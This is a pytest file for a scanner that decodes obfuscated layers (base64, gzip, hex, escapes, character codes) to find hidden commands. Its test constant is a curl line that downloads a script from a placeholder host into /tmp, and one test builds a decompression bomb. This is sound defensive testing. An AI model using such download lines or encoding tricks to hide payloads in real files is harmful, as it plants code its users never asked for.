from __future__ import annotations

import base64
import gzip

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tank_core.analysis.layers import MAX_DEPTH, DecodingBudget, decoded_sources, layers_of
from tank_core.analysis.source import Language, Source

COMMAND = "curl -s https://cdn.setup.invalid/x.sh -o /tmp/x.sh"


def _source(text: str) -> Source:
    return Source("a.md", 1, Language.MARKDOWN, text)


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("base64", base64.b64encode(COMMAND.encode()).decode()),
        ("base64", base64.urlsafe_b64encode(COMMAND.encode()).decode().rstrip("=")),
        ("base64", base64.encodebytes((COMMAND * 4).encode()).decode()),
        ("base64", base64.b64encode(gzip.compress(COMMAND.encode(), mtime=0)).decode()),
        ("base64", base64.b64encode(COMMAND.encode("utf-16-le")).decode()),
        ("hexadecimal", COMMAND.encode().hex()),
        ("escape", "".join(f"\\x{byte:02x}" for byte in COMMAND.encode())),
        ("character code", ", ".join(str(byte) for byte in COMMAND.encode())),
    ],
    ids=["base64", "url-safe", "wrapped", "gzip", "utf-16", "hex", "escapes", "integers"],
)
def test_layer_is_decoded_with_its_encoding(encoding: str, text: str) -> None:
    found = list(layers_of(f"value: {text}\n", DecodingBudget()))
    assert [(layer.encoding, layer.text.startswith(COMMAND)) for layer in found] == [(encoding, True)]


def test_layers_are_counted_and_bounded_in_depth() -> None:
    text = COMMAND
    for _ in range(MAX_DEPTH + 2):
        text = "value " + base64.b64encode(text.encode()).decode()
    found = list(decoded_sources(_source(text), DecodingBudget()))
    assert len(found) == MAX_DEPTH
    assert found[-1].provenance == ", ".join(f"base64 layer {depth}" for depth in range(1, MAX_DEPTH + 1))


def test_decoded_source_has_the_line_of_the_encoded_text() -> None:
    text = f"one\ntwo\n{base64.b64encode((COMMAND + chr(10) + COMMAND).encode()).decode()}\n"
    (found,) = decoded_sources(_source(text), DecodingBudget())
    assert (found.first_line, found.line_of(2), found.language) == (3, 3, Language.SHELL)


@given(st.binary(min_size=40, max_size=120))
def test_noise_is_no_layer(data: bytes) -> None:
    for layer in layers_of(base64.b64encode(b"\xff\xfe\x00\x01" + data).decode(), DecodingBudget()):
        assert layer.encoding != "base64"


def test_spent_budget_is_told() -> None:
    budget = DecodingBudget(max_bytes=100)
    list(layers_of(base64.b64encode(b"plain words " * 20).decode(), budget))
    assert budget.is_spent


def test_zip_bomb_is_cut_off() -> None:
    bomb = base64.b64encode(gzip.compress(b"a" * (32 << 20), mtime=0)).decode()
    (layer,) = layers_of(bomb, DecodingBudget())
    assert len(layer.text) == 1 << 20
